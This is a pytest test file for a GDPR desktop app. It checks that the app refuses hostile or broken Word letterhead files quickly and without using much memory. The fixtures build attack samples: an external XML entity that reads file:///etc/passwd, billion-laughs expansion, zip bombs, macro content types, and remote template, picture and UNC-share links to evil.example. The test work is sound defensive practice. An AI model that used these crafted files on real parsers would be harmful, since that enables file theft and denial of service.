"""A letterhead from outside: harmless or refused, quickly, with a sentence of its own."""

import io
import subprocess
import sys
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document

from gdpr_desktop.core.errors import AppError
from gdpr_desktop.letters import Letter, check_letterhead, render
from gdpr_desktop.letters.letterhead import LetterheadError
from letters.samples import packed, parts, simple_letterhead

MB = 1024 * 1024
OLE = bytes.fromhex("d0cf11e0a1b11ae1")
RELATION = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
)


def _changed(name: str, change: Callable[[bytes], bytes]) -> bytes:
    content = parts(simple_letterhead())
    return packed({**content, name: change(content.get(name, b""))})


def _related(name: str, kind: str, target: str) -> bytes:
    relation = RELATION.format(kind=kind, target=target)
    empty = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    return _changed(
        name, lambda old: (old or empty).replace(b"</Relationships>", relation.encode())
    )


def _bomb() -> bytes:
    return _changed("word/media/image1.bmp", lambda old: bytes(200 * MB))


def _huge() -> bytes:
    noise = bytes(range(256)) * 4096
    content = parts(simple_letterhead())
    buffer = io.BytesIO(packed(content))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(301):
            archive.writestr(f"word/media/{number}.bin", noise)
    return buffer.getvalue()


def _many() -> bytes:
    buffer = io.BytesIO(simple_letterhead())
    with zipfile.ZipFile(buffer, "a") as archive:
        for number in range(2100):
            archive.writestr(f"word/media/{number}.bin", b"")
    return buffer.getvalue()


def _many_more() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(100_000):
            archive.writestr(zipfile.ZipInfo(f"{number}"), b"")
    return buffer.getvalue()


def _laughs(old: bytes) -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    head = f"<!DOCTYPE w:styles [{entities}]>".encode()
    return old.replace(b"?>", b"?>" + head, 1)


def _outside(old: bytes) -> bytes:
    return old.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)


def _field(old: bytes) -> bytes:
    """A field that fetches a picture, its name cut in two as Word may do."""
    begin = b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    first = b"<w:r><w:instrText> INCLUDE</w:instrText></w:r>"
    rest = b'<w:r><w:instrText>PICTURE "\\\\evil\\x"</w:instrText></w:r>'
    return old.replace(b"</w:p>", begin + first + rest + b"</w:p>", 1)


def _much_xml(old: bytes) -> bytes:
    """90 MB that pack like any text."""
    style = b"".join(
        b'<w:style w:type="paragraph" w:styleId="S%d"><w:name w:val="%d"/></w:style>'
        % (number * 7919 % 100_003, number * number)
        for number in range(10_000)
    )
    return old.replace(b"</w:styles>", style * (90 * MB // len(style)) + b"</w:styles>")


def _many_tags(old: bytes) -> bytes:
    return old.replace(b"</w:styles>", b"<a/>" * (3 * MB // 4) + b"</w:styles>")


def _deep(old: bytes) -> bytes:
    return old.replace(b"</w:styles>", b"<a>" * 60_000 + b"</a>" * 60_000 + b"</w:styles>")


def _hidden_xml() -> bytes:
    """The styles under a name that says they are no XML, with an entity that fetches a file."""
    content = parts(simple_letterhead())
    styles = _outside(content.pop("word/styles.xml"))
    content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(
        b"/word/styles.xml", b"/word/styles.bin"
    )
    relations = content["word/_rels/document.xml.rels"]
    content["word/_rels/document.xml.rels"] = relations.replace(b"styles.xml", b"styles.bin")
    return packed({**content, "word/styles.bin": styles})


MAIN = b"wordprocessingml.document.main+xml"
BAD: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "text": lambda: b"Dette er ikkje Word",
    "pdf": lambda: b"%PDF-1.7 ...",
    "old doc renamed": lambda: OLE + bytes(5000),
    "password": lambda: OLE + bytes(900) + "EncryptedPackage".encode("utf-16-le") + bytes(900),
    "cut off": lambda: simple_letterhead()[:-500],
    "plain zip": lambda: packed({"a.txt": b"x"}),
    "too big": lambda: b"PK\x03\x04" + bytes(50 * MB),
    "bomb": _bomb,
    "huge": _huge,
    "many parts": _many,
    "very many parts": _many_more,
    "macros": lambda: _changed("word/vbaProject.bin", lambda old: OLE),
    "macro type": lambda: _changed(
        "[Content_Types].xml",
        lambda old: old.replace(
            b"application/vnd.openxmlformats-officedocument." + MAIN,
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    "template type": lambda: _changed(
        "[Content_Types].xml",
        lambda old: old.replace(MAIN, b"wordprocessingml.template.main+xml"),
    ),
    "attached template": lambda: _related(
        "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/t.dotm"
    ),
    "linked picture": lambda: _related(
        "word/_rels/document.xml.rels", "image", "https://evil.example/x.png"
    ),
    "linked share": lambda: _related(
        "word/_rels/header1.xml.rels", "oleObject", "\\\\evil.example\\x"
    ),
    "fetching field": lambda: _changed("word/header1.xml", _field),
    "billion laughs": lambda: _changed("word/styles.xml", _laughs),
    "external entity": lambda: _changed("word/header1.xml", _outside),
    "utf-16 doctype": lambda: _changed(
        "word/header1.xml",
        lambda old: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []><x/>'.encode("utf-16"),
    ),
    "much xml": lambda: _changed("word/styles.xml", _much_xml),
    "many tags": lambda: _changed("word/styles.xml", _many_tags),
    "deep xml": lambda: _changed("word/styles.xml", _deep),
    "hidden xml": _hidden_xml,
    "zip inside": lambda: _changed("word/media/image1.png", lambda old: packed({"a.txt": b"x"})),
    "letterhead in a zip": lambda: packed({"brevhovud.docx": simple_letterhead()}),
    "old office file inside": lambda: _changed("word/media/x.bin", lambda old: OLE + bytes(600)),
    "embedded workbook": lambda: _changed("word/embeddings/a.xlsx", lambda old: b"x"),
    "broken xml": lambda: _changed("word/styles.xml", lambda old: old[:-40]),
    "no document": lambda: packed(
        {k: v for k, v in parts(simple_letterhead()).items() if k != "word/document.xml"}
    ),
    "spreadsheet": lambda: _changed(
        "[Content_Types].xml", lambda old: old.replace(b"wordprocessingml", b"spreadsheetml")
    ),
}


@pytest.mark.parametrize("make_bad", BAD.values(), ids=BAD)
def test_a_harmful_or_wrong_file_is_refused_within_a_second_and_little_memory(
    make_bad: Callable[[], bytes],
) -> None:
    data = make_bad()
    begun = time.perf_counter()
    with pytest.raises(AppError) as caught:
        check_letterhead(data)
    assert time.perf_counter() - begun < 1
    assert caught.value.text.endswith(".")
    assert caught.value.hint.endswith(".")


def test_each_cause_has_its_own_sentence() -> None:
    sentences = set()
    for name in (
        *("text", "old doc renamed", "password", "too big", "bomb", "huge", "many parts"),
        *("macros", "attached template", "billion laughs", "template type", "cut off"),
    ):
        with pytest.raises(LetterheadError) as caught:
            check_letterhead(BAD[name]())
        sentences.add(caught.value.text)
    assert len(sentences) == 12


@pytest.mark.skipif(sys.platform != "linux", reason="others do not tell the peak this way")
def test_no_letterhead_takes_two_hundred_megabytes(tmp_path: Path) -> None:
    """Measured outside this process, so that what C code takes is counted too."""
    names = ("much xml", "many tags", "deep xml", "bomb", "huge", "very many parts", "zip inside")
    for number, name in enumerate(names):
        (tmp_path / f"{number}.docx").write_bytes(BAD[name]())
    code = (
        "import sys; from pathlib import Path;"
        "from gdpr_desktop.core.errors import AppError;"
        "from gdpr_desktop.letters import check_letterhead\n"
        "for path in sorted(Path(sys.argv[1]).glob('*.docx')):\n"
        "    try: check_letterhead(path)\n"
        "    except AppError: print('refused')\n"
        "status = Path('/proc/self/status').read_text()\n"  # the usage of resources outlives exec
        "print(status.partition('VmHWM:')[2].split()[0])\n"
    )
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)],
        cwd=root, check=True, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    *refused, peak = done.stdout.split()
    assert refused == ["refused"] * len(names)
    assert int(peak) * 1024 < 200 * MB


def test_a_bomb_is_not_unpacked() -> None:
    data = _bomb()
    tracemalloc.start()
    try:
        with pytest.raises(LetterheadError):
            check_letterhead(data)
        assert tracemalloc.get_traced_memory()[1] < 20 * MB
    finally:
        tracemalloc.stop()


def test_an_ordinary_letterhead_is_accepted_from_a_file_too(tmp_path: Path) -> None:
    path = tmp_path / "brevhovud.docx"
    path.write_bytes(simple_letterhead())
    check_letterhead(path)
    check_letterhead(_related("word/_rels/document.xml.rels", "hyperlink", "https://example.no"))


def test_a_missing_letterhead_is_named(tmp_path: Path, small: Letter) -> None:
    with pytest.raises(AppError, match=r"borte\.docx"):
        check_letterhead(tmp_path / "borte.docx")
    with pytest.raises(AppError, match=r"borte\.docx"):
        small.save(tmp_path / "brev.docx", tmp_path / "borte.docx")
    assert list(tmp_path.glob("*.docx")) == []


@pytest.fixture
def small(make: Callable[[str], str]) -> Letter:
    return render(make("# Brev\n\n1. ein\n"), "nn", {"name": "x"})  # type: ignore[arg-type]


def test_an_empty_document_with_nothing_but_a_page_can_be_a_letterhead(small: Letter) -> None:
    document = Document()
    for style in list(document.styles):
        if style.name != "Normal":
            style.delete()
    buffer = io.BytesIO()
    document.save(buffer)
    bare = {
        name: data
        for name, data in parts(buffer.getvalue()).items()
        if name not in ("word/numbering.xml", "docProps/thumbnail.jpeg", "docProps/app.xml")
    }
    for name in ("[Content_Types].xml", "word/_rels/document.xml.rels", "_rels/.rels"):
        for gone in (b"numbering", b"thumbnail", b"extended-properties"):
            bare[name] = _without(bare[name], gone)
    data = packed(bare)
    check_letterhead(data)
    written = Document(io.BytesIO(small.docx(data)))
    assert [(p.style.name, p.text) for p in written.paragraphs if p.style is not None] == [
        ("Heading 1", "Brev"),
        ("List Number", "ein"),
    ]


def _without(xml: bytes, word: bytes) -> bytes:
    """Drops the elements without content that hold ``word``."""
    return b"".join(
        piece for piece in xml.replace(b"/>", b"/>\n").split(b"\n") if word not in piece
    )


def test_tracked_changes_in_the_header_are_refused_with_what_to_do() -> None:
    changed = _changed(
        "word/header1.xml",
        lambda old: old.replace(b"<w:r>", b'<w:ins w:id="1" w:author="Ola Dunk"><w:r>', 1).replace(
            b"</w:r>", b"</w:r></w:ins>", 1
        ),
    )
    with pytest.raises(AppError) as caught:
        check_letterhead(changed)
    assert "Word" in caught.value.hint


def test_styles_with_translated_ids_are_found_by_name(small: Letter) -> None:
    content = parts(simple_letterhead())
    for name in ("word/styles.xml", "word/document.xml"):
        content[name] = content[name].replace(b'"Heading1"', b'"Overskrift1"')
    data = packed(content)
    check_letterhead(data)
    text = parts(small.docx(data))["word/document.xml"]
    assert b'<w:pStyle w:val="Overskrift1"/>' in text
    assert (
        parts(small.docx(data))["word/styles.xml"].count(b'w:val="heading 1"')
        + parts(small.docx(data))["word/styles.xml"].count(b'w:val="Heading 1"')
        == 1
    )


def test_first_page_setup_with_its_header_survives_a_letterhead_of_several_sections(
    small: Letter,
) -> None:
    document = Document()
    document.sections[0].header.paragraphs[0].text = "Fyrste"
    document.add_section()
    document.sections[1].header.is_linked_to_previous = False
    document.sections[1].header.paragraphs[0].text = "Andre"
    buffer = io.BytesIO()
    document.save(buffer)
    written = Document(io.BytesIO(small.docx(buffer.getvalue())))
    assert len(written.sections) == 1
    assert written.sections[0].header.paragraphs[0].text == "Fyrste"
    assert not any(b"Andre" in data for data in parts(small.docx(buffer.getvalue())).values())
